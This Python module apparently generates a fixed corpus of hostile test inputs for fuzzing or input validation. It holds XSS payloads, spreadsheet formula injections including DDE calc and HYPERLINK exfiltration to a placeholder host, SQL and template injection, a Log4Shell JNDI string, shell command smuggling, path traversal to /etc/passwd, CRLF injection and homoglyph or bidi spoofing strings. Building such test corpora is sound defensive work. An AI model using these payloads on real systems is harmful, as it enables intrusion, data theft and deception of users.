"""A thousand texts that somebody could type to harm, in families, generated: always the same."""

import random
from collections.abc import Callable, Iterator
from itertools import islice, product
from typing import Final

_PICK: Final = random.Random(1_000)
FOREIGN: Final = "//example.invalid"

_TAGS = ("script", "ScRiPt", "img", "svg", "iframe", "details", "math", "style", "object", "a")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "ONERROR")
_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//example.invalid')")
_BREAKS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "\\'>",
    "`>",
    "\n\n",
)


def _xss() -> Iterator[str]:
    for before, tag, event, call in product(_BREAKS, _TAGS, _EVENTS, _CALLS):
        match _PICK.randrange(7):
            case 0:
                yield f"{before}<{tag}>{call}</{tag}>"
            case 1:
                yield f"{before}<{tag} src=x {event}={call}>"
            case 2:
                yield f"{before}<{tag}/{event}={call}//"
            case 3:
                yield f"{before}<a href='javascript:{call}'>x</a>"
            case 4:
                yield f'{before}" {event}="{call}" x="'
            case 5:
                yield f"{before}&lt;{tag}&#62;{call}"
            case _:
                yield f"{before}{{{{constructor.constructor('{call}')()}}}}<{tag}"


def _formulas() -> Iterator[str]:
    signs = (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "'=",
        '"=',
        ";=",
    )
    bodies = (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://example.invalid?"&A1)',
        "WEBSERVICE(A1)",
        "IMPORTXML(A1;A2)",
        "SUM(1+1)*cmd|'/C calc'!A0",
        "DDE(0;0;0)",
    )
    yield from (sign + body for sign, body in product(signs, bodies))


def _deceits() -> Iterator[str]:
    invisible = (
        "\u200b\u200c\u200d\u200e\u200f\u2060\u2061\ufeff\u00ad\u180e\u061c\u034f\u115f\u3164"
    )
    turning = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    tags = "".join(chr(0xE0000 + ord(letter)) for letter in "admin")
    look_alikes = (
        "Fаcilitateur",
        "Ꭺdmin",
        "Mоdération",
        "Еssaim",
        "Аnimаtion",
        "ｆａｃｉｌｉｔａｔｅｕｒ",
        "Facіlіtateur",
        "𝐀𝐝𝐦𝐢𝐧",
    )
    for mark, base in product(invisible + turning, ("abc", "Facilitateur", "=1+1", "<b>", "")):
        yield f"{base[:2]}{mark}{base[2:]}{mark}"
    for name, mark in product(look_alikes, ("", "\u200b", " ", ".", "\u0301")):
        yield mark.join(name) if mark else name
    yield f"x{tags}"
    yield "invoice\u202efdp.exe"


def _controls() -> Iterator[str]:
    codes = [*range(0x20), 0x7F, *range(0x80, 0xA0), 0x2028, 0x2029, 0xFDD0, 0xFDEF]
    codes += [0xFFFE, 0xFFFF, 0x1FFFF, 0x10FFFE, 0x10FFFF]
    yield from (f"a{chr(code)}b" for code in codes)
    yield from (f"a{chr(code)}b" for code in range(0xD800, 0xE000, 64))
    yield from ("\x1b]0;titre\x07", "\x1b[2J\x1b[31mrouge", "\r\n\r\n", "\x00" * 50)


def _long() -> Iterator[str]:
    emoji = (
        "👩‍👩‍👧‍👦",
        "🇫🇷",
        "❤️",
        "👍🏽",
        "🏴\U000e0067\U000e0062\U000e007f",
        "e\u0301",
        "ﷺ",
        "क्षि",
        "한",
        "🫠",
    )
    for size, piece in product((40, 41, 280, 281, 500, 1_000, 1_001, 5_000), emoji[:6]):
        yield (piece * size)[:size]
    for number in range(30):
        yield "Z" + "".join(chr(0x300 + (number + at) % 0x6F) for at in range(8 * number + 1))
    yield from (
        "\n".join("l" * size for _ in range(lines))
        for size, lines in product((1, 30), (2, 19, 20, 21, 200))
    )
    yield from ("x" * 20_000, " " * 5_000, "\n" * 5_000, "mot " * 250, "\u00a0" * 100)
    yield from emoji


def _injections() -> Iterator[str]:
    raw = (
        "' OR 1=1 --",
        "'; DROP TABLE seat; --",
        '" OR ""="',
        "1; SELECT pg_sleep(9)",
        "%' AND '1",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{%for x in y%}",
        "{0.__class__}",
        "%s%n%d",
        "${jndi:ldap://example.invalid/a}",
        "$(id)",
        "`id`",
        "| id",
        "; id",
        "&& id",
        "\\x41",
        "%00",
        "../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd%00.md",
        "file:///etc/passwd",
        "CON",
        "NUL",
        '{"ok":true}',
        "__proto__",
        "constructor",
        "toString",
        "null",
        "undefined",
        "NaN",
        "1e999",
        '\n{"level":"error","message":"faux"}',
        "\r\nSet-Cookie: essaim=x",
        "\r\n\r\n<html>",
        "2026-01-01 ERROR faux: tout va mal",
        "x\nERROR faux",
        "\u2028ERROR faux",
        "\x85ERROR faux",
    )
    for round_ in range(5):
        yield from (f"{'é' * round_}{text}{round_ or ''}" for text in raw)


def _markdown() -> Iterator[str]:
    raw = (
        "# titre",
        "- liste",
        "1. un",
        "> cité",
        "```\ncode\n```",
        "**gras**",
        "_x_",
        "~~x~~",
        "|a|b|",
        "| a |\n|---|\n| b |",
        "[x](javascript:alert(1))",
        f"![x](http:{FOREIGN}/x.png)",
        "[x]: /y",
        f"<http:{FOREIGN}>",
        f"http:{FOREIGN}/?a=b&c",
        "www.example.invalid",
        "x@example.invalid",
        "data:text/html,<script>x</script>",
        "javascript:alert(1)",
        "vbscript:x",
        "tel:+33123456789",
        "---\ntitle: x\n---",
        "[^1]",
        "- [x] fait",
        "$x$",
        ":smile:",
        "<!-- x -->",
        "&copy;",
        "\\",
        "a\\\nb",
    )
    yield from raw
    for round_ in range(1, 5):
        yield from (f"{text}\n{'x' * round_} {text}" for text in raw)


FAMILIES: Final[dict[str, tuple[Callable[[], Iterator[str]], int]]] = {
    "scripts": (_xss, 300),
    "formulas": (_formulas, 100),
    "deceits": (_deceits, 150),
    "controls": (_controls, 100),
    "long texts": (_long, 100),
    "injections": (_injections, 150),
    "Markdown": (_markdown, 100),
}

CORPUS: Final[dict[str, tuple[str, ...]]] = {
    family: tuple(islice(dict.fromkeys(islice(make(), 4 * size)), size))
    for family, (make, size) in FAMILIES.items()
}
ALL: Final = tuple(text for texts in CORPUS.values() for text in texts)
